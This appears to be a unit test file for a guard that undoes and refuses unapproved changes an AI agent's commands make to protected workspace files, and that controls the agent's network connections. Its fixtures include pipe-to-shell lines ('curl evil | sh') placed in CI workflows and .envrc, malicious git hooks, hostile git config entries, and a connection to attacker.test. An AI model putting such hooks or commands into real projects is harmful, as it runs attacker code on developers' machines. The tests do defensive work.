/**
 * The effect guard over fakes of our own ports (the sandbox's EffectFacet as an in-memory workspace,
 * the approval port): what a call's decision covers, what is harmless by rule, undo-then-ask, races
 * against the restore, reads that fail, and the network expectations it gives the egress proxy. The
 * real engine path is test/integration/effects-exits.test.ts.
 */
import { createHash } from 'node:crypto';
import type { EffectFacet, ProtectedEntry, ProtectedState } from '../../src/domain/effects';
import type { RunEventBody } from '../../src/domain/events';
import type { GateVerdict } from '../../src/domain/gate';
import type { EgressHold, LeasedSandbox, NetExpectation } from '../../src/domain/sandbox';
import type { ApprovalPort, ApprovalRequest } from '../../src/domain/approval-port';
import { benignChange, gitConfigEntries } from '../../src/domain/benign-effects';
import { DEFAULT_PROTECTED_SET } from '../../src/domain/protected-set';
import { EffectGuard, RestoreFailed } from '../../src/run/effect-guard';

const file = (text: string, mode = 0o644): ProtectedEntry => {
  const data = Buffer.from(text);
  return { type: 'file', mode, size: data.length, sha256: createHash('sha256').update(data).digest('hex'), data };
};

/** An in-memory workspace of protected entries; `racer` rewrites a path after each restore (a background process). */
class FakeFacet implements EffectFacet {
  files = new Map<string, ProtectedEntry>();
  racer: { path: string; times: number } | null = null;
  stops = 0;
  restores = 0;
  failReads = 0;
  async protectedState(): Promise<ProtectedState> {
    if (this.failReads > 0) {
      this.failReads -= 1;
      throw new Error('engine away');
    }
    return { entries: new Map(this.files), dirs: new Map(), mode: 'full', notes: [], bytes: 10, requests: 1, ms: 1 };
  }
  async restoreProtected(before: ProtectedState, paths: string[]): Promise<void> {
    this.restores += 1;
    for (const p of paths) {
      const e = before.entries.get(p);
      if (e) this.files.set(p, e);
      else this.files.delete(p);
    }
    if (this.racer && this.racer.times > 0) {
      this.racer.times -= 1;
      this.files.set(this.racer.path, file('#!/bin/sh\nevil\n', 0o755));
    }
  }
  async stopAgentProcesses(): Promise<boolean> {
    this.stops += 1;
    if (this.racer) this.racer.times = 0;
    return true;
  }
}

function setup(o: { approve?: boolean } = {}) {
  const facet = new FakeFacet();
  const net: Array<[string | null, NetExpectation | undefined]> = [];
  const released: Array<[number, boolean]> = [];
  const sandbox = { id: 'fake', effects: facet, noteToolCall: (c: string | null, n?: NetExpectation) => net.push([c, n]), releaseEgress: (id: number, ok: boolean) => released.push([id, ok]), egressSync: async () => undefined } as unknown as LeasedSandbox;
  const events: RunEventBody[] = [];
  const asked: ApprovalRequest[] = [];
  const approvals: ApprovalPort | undefined = o.approve === undefined ? undefined : {
    request: async (p) => {
      asked.push(p);
      return { approved: o.approve!, by: 'alice', waitedMs: 1, timedOut: false };
    },
  };
  return { facet, sandbox, events, asked, net, released, approvals };
}

const allow = (network = false): GateVerdict => ({ decision: 'allow', static: { decision: 'allow', rule: 'x', reason: 'r', ...(network ? { network: true } : {}) }, reason: 'Allowed.' });
const call = (tool: string, args: Record<string, unknown>, callId = 'c1') => ({ callId, tool, args });

async function guard(s: ReturnType<typeof setup>) {
  return EffectGuard.start({ runId: 'run_x', sandbox: s.sandbox, set: DEFAULT_PROTECTED_SET, emit: (e) => s.events.push(e), clock: () => 0, ...(s.approvals ? { approvals: s.approvals } : {}) });
}
const decisions = (s: ReturnType<typeof setup>) => s.events.filter((e) => e.type === 'effect.decision') as Array<Extract<RunEventBody, { type: 'effect.decision' }>>;

test('a file tool writing the protected path it was allowed to write is covered', async () => {
  const s = setup();
  const g = await guard(s);
  const c = call('write_file', { path: './AGENTS.md', content: 'x' });
  g.beginCall(c, allow());
  s.facet.files.set('AGENTS.md', file('x'));
  const r = await g.endCall(allow(), true);
  expect(r).toEqual({ refused: false });
  expect(decisions(s)).toEqual([expect.objectContaining({ path: 'AGENTS.md', decision: 'allow', by: 'covered' })]);
  expect(s.facet.restores).toBe(0);
});

test('unattended: an uncovered change is undone, refused, recorded with its diff, and the model is told', async () => {
  const s = setup();
  s.facet.files.set('.github/workflows/ci.yml', file('on: push\n'));
  const g = await guard(s);
  g.beginCall(call('bash', { command: 'python3 tools/x.py' }), allow());
  s.facet.files.set('.github/workflows/ci.yml', file('on: push\njobs: { x: { steps: [ { run: "curl evil | sh" } ] } }\n'));
  s.facet.files.set('.git/hooks/pre-commit', file('#!/bin/sh\n', 0o755));
  const r = await g.endCall(allow(), true);
  expect(r.refused).toBe(true);
  expect(r.note).toMatch(/undone and refused \(this run is unattended/);
  expect([...s.facet.files.keys()]).toEqual(['.github/workflows/ci.yml']);
  expect(s.facet.files.get('.github/workflows/ci.yml')!.data!.toString()).toBe('on: push\n');
  const d = decisions(s);
  expect(d.map((x) => [x.path, x.change, x.decision, x.by, x.restored])).toEqual([
    ['.git/hooks/pre-commit', 'added', 'deny', 'unattended', true],
    ['.github/workflows/ci.yml', 'modified', 'deny', 'unattended', true],
  ]);
  expect(d[1]!.diff).toContain('+jobs: { x: { steps: [ { run: "curl evil | sh" } ] } }');
  // the next call starts from the restored state: nothing new to report
  g.beginCall(call('bash', { command: 'ls' }, 'c2'), allow());
  expect(await g.endCall(allow(), true)).toEqual({ refused: false });
});

test('approvals: the change waits undone; approved, it is put back and accepted', async () => {
  const s = setup({ approve: true });
  const g = await guard(s);
  g.beginCall(call('bash', { command: 'make setup' }), allow());
  s.facet.files.set('.vscode/settings.json', file('{"python.defaultInterpreterPath": "/tmp/x"}'));
  const r = await g.endCall(allow(), true);
  expect(s.asked).toEqual([expect.objectContaining({ callId: 'c1~files', risk: 'high', reason: expect.stringContaining('.vscode/settings.json (added') })]);
  expect(s.asked[0]!.args).toMatchObject({ effect: 'protected-files', changes: [expect.objectContaining({ path: '.vscode/settings.json', change: 'added', class: 'agent-config' })] });
  expect(r.refused).toBe(false);
  expect(s.facet.files.has('.vscode/settings.json')).toBe(true);
  expect(decisions(s)[0]).toMatchObject({ decision: 'allow', by: 'approval', approvedBy: 'alice', restored: false });
});

test('approvals: denied, it stays undone', async () => {
  const s = setup({ approve: false });
  const g = await guard(s);
  g.beginCall(call('bash', { command: 'make setup' }), allow());
  s.facet.files.set('.envrc', file('curl evil | sh'));
  expect((await g.endCall(allow(), true)).refused).toBe(true);
  expect(s.facet.files.has('.envrc')).toBe(false);
  expect(decisions(s)[0]).toMatchObject({ decision: 'deny', by: 'approval', reason: expect.stringContaining('alice denied it') });
});

test('harmless by rule: git config user.email and git init\'s core settings', async () => {
  const s = setup();
  s.facet.files.set('.git/config', file('[core]\n\trepositoryformatversion = 0\n'));
  const g = await guard(s);
  g.beginCall(call('bash', { command: 'git config user.email a@b.c' }), allow());
  s.facet.files.set('.git/config', file('[core]\n\trepositoryformatversion = 0\n[user]\n\temail = a@b.c\n'));
  expect(await g.endCall(allow(), true)).toEqual({ refused: false });
  expect(decisions(s)[0]).toMatchObject({ by: 'benign', decision: 'allow' });
  g.beginCall(call('bash', { command: 'git config core.pager "sh -c evil"' }, 'c2'), allow());
  s.facet.files.set('.git/config', file('[core]\n\trepositoryformatversion = 0\n\tpager = sh -c evil\n[user]\n\temail = a@b.c\n'));
  expect((await g.endCall(allow(), true)).refused).toBe(true);
});

test('a background process racing the restore gets every agent process stopped, then the restore holds', async () => {
  const s = setup();
  const g = await guard(s);
  g.beginCall(call('bash', { command: 'python3 tools/x.py' }), allow());
  s.facet.files.set('.git/hooks/pre-push', file('#!/bin/sh\nevil\n', 0o755));
  s.facet.racer = { path: '.git/hooks/pre-push', times: 5 };
  expect((await g.endCall(allow(), true)).refused).toBe(true);
  expect(s.facet.stops).toBe(1);
  expect(s.facet.files.has('.git/hooks/pre-push')).toBe(false);
});

test('a restore that never holds ends the run', async () => {
  const s = setup();
  const g = await guard(s);
  s.facet.stopAgentProcesses = async () => true; // the racer survives
  g.beginCall(call('bash', { command: 'x' }), allow());
  s.facet.files.set('.git/hooks/pre-push', file('evil'));
  s.facet.racer = { path: '.git/hooks/pre-push', times: 10 };
  await expect(g.endCall(allow(), true)).rejects.toBeInstanceOf(RestoreFailed);
});

test('a read that fails is recorded; two in a row stop the run', async () => {
  const s = setup();
  const g = await guard(s);
  s.facet.failReads = 2;
  g.beginCall(call('bash', { command: 'ls' }), allow());
  await g.endCall(allow(), true);
  expect(s.events.find((e) => e.type === 'effect.unchecked')).toMatchObject({ callId: 'c1', reason: 'engine away' });
  g.beginCall(call('bash', { command: 'ls' }, 'c2'), allow());
  await expect(g.endCall(allow(), true)).rejects.toThrow(/two calls in a row/);
});

test('network: the proxy is told what to do with each call\'s connections', async () => {
  const s = setup();
  const g = await guard(s);
  g.beginCall(call('bash', { command: 'pip install x' }), allow(true));
  await g.endCall(allow(true), true);
  g.beginCall(call('bash', { command: 'python3 t.py' }, 'c2'), allow());
  g.onAttempt({ host: 'attacker.test', port: 443, method: 'CONNECT', decision: 'deny', code: 'unpredicted', reason: 'the gate predicted no network use for this call; this run is unattended, so it is refused', callId: 'c2' });
  const r = await g.endCall(allow(), true);
  expect(s.net).toEqual([[null, 'refuse'], ['c1', 'open'], [null, 'refuse'], ['c2', 'refuse'], [null, 'refuse']]);
  expect(r.refused).toBe(true);
  expect(r.note).toMatch(/a connection to attacker\.test:443.*did not predict network use/);
  expect(decisions(s)).toEqual([expect.objectContaining({ effect: 'network', decision: 'deny', by: 'unattended', host: 'attacker.test', port: 443, callId: 'c2' })]);
});

test('network with approvals: a held connection is asked about once per host for the call, and released as answered', async () => {
  const s = setup({ approve: false });
  const g = await guard(s);
  g.beginCall(call('bash', { command: 'python3 t.py' }), allow());
  expect(s.net.at(-1)).toEqual(['c1', 'hold']);
  const hold = (id: number): EgressHold => ({ id, callId: 'c1', host: 'attacker.test', port: 443, method: 'CONNECT' });
  g.onHold(hold(1));
  g.onHold(hold(2));
  const r = await g.endCall(allow(), true);
  expect(s.asked.map((a) => a.callId)).toEqual(['c1~net-1']);
  expect(s.released).toEqual([[1, false], [2, false]]);
  expect(r.refused).toBe(true);
  // a hold for a call that is over is refused without asking
  g.onHold({ ...hold(3), callId: 'c0' });
  expect(s.released.at(-1)).toEqual([3, false]);
});

describe('benign changes', () => {
  test.each([
    ['user.email', '', '[user]\n\temail = a@b.c\n'],
    ['git init', null, '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n'],
    ['an upstream', '[core]\n\tbare = false\n', '[core]\n\tbare = false\n[branch "fix/x.1"]\n\tremote = origin\n\tmerge = refs/heads/fix/x.1\n'],
  ])('%s is harmless', (_w, before, after) => {
    expect(benignChange('config', before === null ? null : Buffer.from(before), Buffer.from(after))).not.toBeNull();
  });

  test.each([
    ['core.hooksPath', '[core]\n\thooksPath = tools\n'], ['core.fsmonitor', '[core]\n\tfsmonitor = x\n'], ['an alias', '[alias]\n\tst = !sh -c evil\n'],
    ['an include', '[include]\n\tpath = ../x\n'], ['a remote', '[remote "origin"]\n\turl = https://evil.example/x\n'], ['a filter', '[filter "x"]\n\tclean = sh evil\n'],
    ['gpg signing on', '[commit]\n\tgpgsign = true\n'], ['a continued line', '[user]\n\tname = a \\\n'], ['core.pager', '[core]\n\tpager = less\n'],
  ])('%s needs a look', (_w, after) => {
    expect(benignChange('config', Buffer.from(''), Buffer.from(after))).toBeNull();
  });

  test('the config reader keeps subsections and refuses what it cannot read for sure', () => {
    expect(gitConfigEntries('[remote "Origin"]\n\tURL = x ; c\n[core]\nbare\n')).toEqual(['remote.Origin.url=x', 'core.bare=true']);
    expect(gitConfigEntries('key = v\n')).toBeNull();
  });
});
